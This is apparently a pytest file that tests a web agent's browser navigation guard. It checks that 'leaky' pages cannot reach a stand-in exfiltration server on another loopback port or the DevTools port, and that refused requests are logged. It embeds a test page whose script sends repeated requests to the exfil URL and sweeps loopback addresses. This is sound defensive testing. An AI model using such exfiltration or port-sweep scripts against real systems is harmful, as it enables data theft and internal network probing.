"""Every way a page sends a request goes through the one request policy, whichever way
the page arrived: an "attacker" server on another loopback port counts 0 hits, while
the same pages with the policy widened (``allow_private``) reach it through every
channel, so each zero is the policy's doing."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
import websockets
from playwright.async_api import Page

from linewise.runtime.browser.chromium import Browser, BrowserConfig, BrowserSession
from linewise.runtime.browser.guard import NavigationGuard
from linewise.runtime.browser.navigation import NavigationPolicy
from linewise.runtime.tasks.schema import WebTask
from linewise.runtime.trace import read_steps
from linewise.settings import NavigationSettings
from tests.support.episodes import resources_of, run_episode
from tests.support.leaky import CHANNELS, LOOPBACK_NAME
from tests.support.sites import Site, click, scripted


async def _session(browser: Browser, start: str, **navigation: object
                   ) -> tuple[BrowserSession, NavigationGuard]:
    policy = NavigationPolicy.for_task(NavigationSettings.model_validate(navigation), start,
                                       devtools_port=browser.devtools_port)
    guard = NavigationGuard(policy)
    return await browser.new_session(guard), guard


async def _load_and_wait(page: Page, url: str) -> None:
    await page.goto(url)
    await page.wait_for_function("document.title === 'done'", timeout=10000)


async def _until_hit(site: Site, paths: tuple[str, ...]) -> None:
    for _ in range(100):
        if all(site.hits[f"/{p}"] for p in paths):
            return
        await asyncio.sleep(0.05)


@pytest.mark.slow
@pytest.mark.parametrize("path", ["/leaky", "/to-leaky"])
@pytest.mark.parametrize("allowlist", [False, True])
async def test_no_channel_reaches_another_loopback_port(
    browser: Browser, leaky_servers: tuple[Site, Site], path: str, allowlist: bool
) -> None:
    site, exfil = leaky_servers
    start = f"http://127.0.0.1:{site.port}/"
    extra = {"allow_domains": (f"127.0.0.1:{site.port}",)} if allowlist else {}
    session, _ = await _session(browser, start, **extra)
    try:
        await _load_and_wait(session.page, start + path.lstrip("/"))
        assert session.page.url == f"{start}leaky"
    finally:
        await session.close()
    assert sum(exfil.hits.values()) == 0, exfil.hits
    assert site.hits["/hop-to-exfil"] == 1  # the redirect was asked, its hop refused


@pytest.mark.slow
@pytest.mark.parametrize("path", ["/leaky", "/to-leaky"])
async def test_the_same_page_reaches_every_channel_with_the_policy_widened(
    browser: Browser, leaky_servers: tuple[Site, Site], path: str
) -> None:
    """Whichever way it arrives: nothing else (Chromium's Local Network Access checks on
    a document the guard fulfilled) stands in for the policy."""
    site, exfil = leaky_servers
    start = f"http://127.0.0.1:{site.port}/"
    session, _ = await _session(browser, start, allow_private=True)
    try:
        await _load_and_wait(session.page, start + path.lstrip("/"))
        await _until_hit(exfil, CHANNELS)
    finally:
        await session.close()
    assert [c for c in CHANNELS if not exfil.hits[f"/{c}"]] == [], exfil.hits


@pytest.mark.slow
@pytest.mark.skipif(LOOPBACK_NAME is None, reason="this host name does not resolve to loopback")
@pytest.mark.parametrize("widened", [False, True])
async def test_a_name_that_resolves_to_loopback_is_loopback_to_every_channel(
    browser: Browser, leaky_servers: tuple[Site, Site], widened: bool
) -> None:
    """The attacker's port named by this machine's host name (/etc/hosts: 127.0.0.1):
    the proxy resolves it and refuses the address; widened, every channel reaches it."""
    site, exfil = leaky_servers
    site.fill |= {"exfil": f"http://{LOOPBACK_NAME}:{exfil.port}",
                  "exfil_ws": f"ws://{LOOPBACK_NAME}:{exfil.port}"}
    start = f"http://127.0.0.1:{site.port}/"
    session, _ = await _session(browser, start, allow_private=widened)
    try:
        await _load_and_wait(session.page, f"{start}leaky")
        if widened:
            await _until_hit(exfil, CHANNELS)
    finally:
        await session.close()
    if widened:
        assert [c for c in CHANNELS if not exfil.hits[f"/{c}"]] == [], exfil.hits
    else:
        assert sum(exfil.hits.values()) == 0, exfil.hits
        assert site.hits["/hop-to-exfil"] == 1


async def test_a_sub_resource_redirect_never_reaches_the_devtools_port(
    browser: Browser, leaky_servers: tuple[Site, Site]
) -> None:
    site, devtools = leaky_servers  # the counting server stands in for the DevTools port
    start = f"http://127.0.0.1:{site.port}/"
    policy = NavigationPolicy.for_task(NavigationSettings(allow_private=True), start,
                                       devtools_port=devtools.port)
    session = await browser.new_session(NavigationGuard(policy))
    try:
        await session.page.goto(f"{start}to-landed")  # the page's real address space
        await session.page.evaluate(
            "fetch('/hop-to-devtools', {mode: 'no-cors'}).catch(() => 0)")
        await session.page.evaluate(f"new Promise((done) => {{ const s = new WebSocket("
                                    f"'ws://localhost:{devtools.port}/devtools/browser'); "
                                    "s.onerror = s.onclose = s.onopen = done; })")
    finally:
        await session.close()
    assert site.hits["/hop-to-devtools"] == 1
    assert sum(devtools.hits.values()) == 0, devtools.hits


@pytest.fixture
async def echo_server() -> AsyncIterator[int]:
    async def echo(connection: websockets.ServerConnection) -> None:
        async for message in connection:
            await connection.send(f"echo {message}")

    async with websockets.serve(echo, "127.0.0.1", 0) as server:
        yield next(iter(server.sockets)).getsockname()[1]


async def test_a_local_app_calls_an_api_on_another_allowed_port(
    browser: Browser, leaky_servers: tuple[Site, Site], echo_server: int
) -> None:
    site, api = leaky_servers
    api.pages = {"/data": (200, {"Access-Control-Allow-Origin": "*",
                                 "Content-Type": "text/plain"}, "api answered")}
    site.fill |= {"api": f"http://127.0.0.1:{api.port}", "api_ws": f"ws://127.0.0.1:{echo_server}"}
    start = f"http://127.0.0.1:{site.port}/"
    session, _ = await _session(browser, start, allow_domains=(
        f"127.0.0.1:{site.port}", f"127.0.0.1:{api.port}", f"127.0.0.1:{echo_server}"))
    try:
        await _load_and_wait(session.page, f"{start}app")
        text = await session.page.text_content("#out")
    finally:
        await session.close()
    assert text == "api answered echo ping"


@pytest.mark.slow
async def test_a_public_task_reaches_no_loopback_address(
    leaky_servers: tuple[Site, Site],
) -> None:
    site, exfil = leaky_servers
    config = BrowserConfig(extra_args=("--host-resolver-rules=MAP public.test 127.0.0.1",))
    start = f"http://public.test:{site.port}/"
    async with Browser(config) as own:
        session, _ = await _session(own, start)
        try:
            await _load_and_wait(session.page, f"{start}to-leaky")
        finally:
            await session.close()
    assert site.hits["/hop-to-exfil"] == 1
    assert sum(exfil.hits.values()) == 0, exfil.hits


@pytest.mark.slow
async def test_a_data_url_popup_does_not_end_the_episode(
    browser: Browser, leaky_servers: tuple[Site, Site], tmp_path: Path
) -> None:
    site, _ = leaky_servers
    task = WebTask(id="popup", url=f"http://127.0.0.1:{site.port}/data-popup",
                   goal="Look around.", max_steps=5)
    model = scripted([click("data popup"), "noop(200)", "send_msg_to_user('done')"])
    summary = await run_episode(task, resources_of(browser, model), tmp_path)
    assert summary.status == "finished" and summary.termination == "agent_done", summary.error
    records = read_steps(tmp_path / "popup")
    assert [b.url[:5] for r in records for b in r.blocked] == ["data:"]
    for record in records[1:]:
        assert record.url == task.url and len(record.tabs) == 1
        assert "popup secret" not in record.axtree


@pytest.mark.slow
async def test_a_slow_page_loads_within_the_navigation_timeout(
    leaky_servers: tuple[Site, Site], tmp_path: Path
) -> None:
    """It answers after 1.5 s: past the action timeout, inside the navigation timeout."""
    site, _ = leaky_servers
    site.delays = {"/slow": 1.5}
    task = WebTask(id="slow", url=f"http://127.0.0.1:{site.port}/slow", goal="Read it.",
                   max_steps=2)
    config = BrowserConfig(action_timeout_ms=500, navigation_timeout_ms=10000)
    async with Browser(config) as own:
        summary = await run_episode(task, resources_of(own, scripted([
            "send_msg_to_user('done')"])), tmp_path)
    assert summary.status == "finished", summary.error
    assert "Slow page" in read_steps(tmp_path / "slow")[0].axtree


@pytest.mark.slow
async def test_the_refused_requests_of_a_leaky_page_are_in_its_steps(
    browser: Browser, leaky_servers: tuple[Site, Site], tmp_path: Path
) -> None:
    """Every channel's refusal (the proxy's, on its own thread) reaches the step record
    and the summary: before, they were only debug log lines, and an exfiltration attempt
    left no trace."""
    site, exfil = leaky_servers
    task = WebTask(id="leaky", url=f"http://127.0.0.1:{site.port}/leaky", goal="Look.",
                   max_steps=3)
    model = scripted(["noop(2000)", "send_msg_to_user('done')"])
    summary = await run_episode(task, resources_of(browser, model), tmp_path)
    assert summary.status == "finished", summary.error
    records = read_steps(tmp_path / "leaky")
    refused = [c for r in records for c in r.refused_connections]
    to_exfil = [c for c in refused if c.host == f"127.0.0.1:{exfil.port}"]
    assert to_exfil and all("private" in c.reason or "task's own" in c.reason
                            for c in to_exfil), refused
    # the 11 channels, the redirect's hop among them (the ping may go unsent)
    assert sum(c.count for c in to_exfil) >= 10, refused
    assert summary.refused_connections == sum(
        sum(c.count for c in r.refused_connections) + r.refused_connections_more
        for r in records)
    assert sum(exfil.hits.values()) == 0, exfil.hits


MANY = """<html><head><title>t</title></head><body><h1>Many</h1><script>
(async () => {{
  for (let i = 0; i < 5; i++)
    await fetch('{exfil}/again?' + i, {{mode: 'no-cors'}}).catch(() => 0);
  for (let i = 2; i < 32; i++)
    await fetch('http://127.0.0.' + i + ':{exfil_port}/many', {{mode: 'no-cors'}})
      .catch(() => 0);
  document.title = 'done';
}})();
</script></body></html>"""


@pytest.mark.slow
async def test_refused_requests_are_listed_by_host_and_reason_up_to_a_bound(
    browser: Browser, leaky_servers: tuple[Site, Site], tmp_path: Path
) -> None:
    from linewise.runtime.browser.guard_rules import REFUSED_LISTED

    site, exfil = leaky_servers
    site.pages["/many"] = (200, {}, MANY)
    site.fill["exfil_port"] = str(exfil.port)
    task = WebTask(id="many", url=f"http://127.0.0.1:{site.port}/many", goal="Look.",
                   max_steps=3)
    model = scripted(["noop(3000)", "send_msg_to_user('done')"])
    summary = await run_episode(task, resources_of(browser, model), tmp_path)
    assert summary.status == "finished", summary.error
    first, *rest = read_steps(tmp_path / "many")
    listed = first.refused_connections
    assert len(listed) == REFUSED_LISTED == 20
    assert (listed[0].host, listed[0].count) == (f"127.0.0.1:{exfil.port}", 5)
    assert [c.host for c in listed[1:]] == [f"127.0.0.{i}:{exfil.port}" for i in range(2, 21)]
    assert all(c.count == 1 for c in listed[1:])
    assert first.refused_connections_more == 11  # 127.0.0.21 to .31
    assert summary.refused_connections == 35
    assert all(not r.refused_connections for r in rest)
    assert sum(exfil.hits.values()) == 0, exfil.hits
